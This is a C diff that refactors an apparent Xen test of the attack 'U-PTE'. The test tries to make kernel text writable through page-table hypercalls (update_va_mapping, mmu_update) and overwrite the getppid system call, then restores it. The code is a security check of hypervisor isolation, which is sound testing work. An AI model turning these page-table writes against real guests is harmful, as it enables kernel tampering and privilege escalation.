@@ -15,23 +15,15 @@
  */
 static bool patch_by_own_mapping(uint64_t text)
 {
-    uint8_t *page = buffer(PAGE_SIZE), *code = page + text % PAGE_SIZE;
-    const uint64_t own = own_frame(page) * PAGE_SIZE | PTE_USER | PTE_NX;
-    const uint64_t alias = kernel_frame(text) * PAGE_SIZE | PTE_USER | PTE_NX;
-    uint8_t original[sizeof(lying_code)];
+    uint8_t *page = buffer(PAGE_SIZE);
+    const uint64_t own = own_frame(page);
     bool lied;
 
-    if ( hypercall3(__HYPERVISOR_update_va_mapping, page, alias,
-                    UVMF_INVLPG | UVMF_ALL) )
+    if ( map_own(page, kernel_frame(text)) )
         return getppid_lies();
 
-    memcpy(original, code, sizeof(original));
-    memcpy(code, lying_code, sizeof(lying_code));
-    lied = getppid_lies();
-    memcpy(code, original, sizeof(original));
-
-    hypercall3(__HYPERVISOR_update_va_mapping, page, own,
-               UVMF_INVLPG | UVMF_ALL);
+    lied = patch_through(page);
+    map_own(page, own);
     return lied;
 }
 
@@ -42,7 +34,6 @@ static bool patch_by_own_mapping(uint64_t text)
  */
 static bool patch_by_kernel_mapping(uint64_t text)
 {
-    mmu_update_t *update = buffer(PAGE_SIZE);
     uint8_t original[PATCH_SIZE] = { 0 }, patch[PATCH_SIZE];
     const struct pte pte = find_pte(kernel_root(), text, 1);
     bool lied;
@@ -50,9 +41,7 @@ static bool patch_by_kernel_mapping(uint64_t text)
     if ( !pte.value || !read_kernel(text, original, sizeof(original)) )
         return false;
 
-    *update = (mmu_update_t){ .ptr = pte.where | MMU_NORMAL_PT_UPDATE,
-                              .val = pte.value | PTE_WRITABLE };
-    hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
+    update_entry(pte.where | MMU_NORMAL_PT_UPDATE, pte.value | PTE_WRITABLE);
 
     memcpy(patch, original, PATCH_SIZE);
     memcpy(patch, lying_code, sizeof(lying_code));
@@ -63,9 +52,7 @@ static bool patch_by_kernel_mapping(uint64_t text)
     set_handle(original);
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
     set_handle((char[PATCH_SIZE]){ 0 });
-
-    update->val = pte.value;
-    hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
+    update_entry(pte.where | MMU_NORMAL_PT_UPDATE, pte.value);
     return lied;
 }
 
@@ -77,14 +64,12 @@ static bool patch_by_kernel_mapping(uint64_t text)
  * uses. Code written through either takes the place of a system call, which
  * then tells whether it ran.
  */
-ATTACK("U-PTE", "make kernel text writable and change a system call")
+PV_ATTACK("U-PTE", "make kernel text writable and change a system call",
+          "a PVH kernel edits its page tables without Xen")
 {
     const uint64_t text = getppid_code();
     bool own, kernel;
 
-    if ( !dom0_is_pv() )
-        return not_applicable(
-            "PV only: a PVH kernel edits its page tables without Xen");
     if ( !text || !kernel_frame(text) )
         return cannot_try("no frame for the kernel's text");
 
